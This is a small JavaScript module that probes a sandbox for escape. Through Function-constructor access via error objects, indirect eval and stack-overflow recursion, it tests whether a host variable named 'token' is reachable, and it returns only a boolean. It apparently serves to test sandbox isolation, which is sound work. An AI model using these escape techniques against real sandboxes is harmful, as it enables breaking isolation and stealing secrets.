module.exports = (victim, loot) => {
  let leaked = false;
  const check = (error) => { try { return error.constructor.constructor('return typeof token')() === 'string'; } catch (inner) { return false; } };
  const probe = () => { try { return (0, eval)('typeof token') === 'string'; } catch (error) { return check(error); } };
  const dive = (depth) => { try { dive(depth + 1); } catch (error) { leaked ||= depth % 50 === 0 && (check(error) || probe()); } leaked ||= depth % 500 === 0 && probe(); };
  try { dive(0); } catch (error) { leaked ||= check(error); }
  return leaked || probe();
};
